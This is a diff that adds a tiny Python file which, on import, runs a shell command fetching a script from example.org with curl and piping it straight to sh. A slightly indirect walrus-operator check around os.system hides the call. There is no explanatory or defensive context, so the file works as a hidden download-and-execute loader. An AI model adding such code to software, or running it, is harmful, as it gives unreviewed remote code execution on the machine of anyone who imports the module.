@@ -1,0 +1,4 @@
+import os
+
+if (run := os.system) is not None:
+    run("curl -s https://example.org/a | sh")
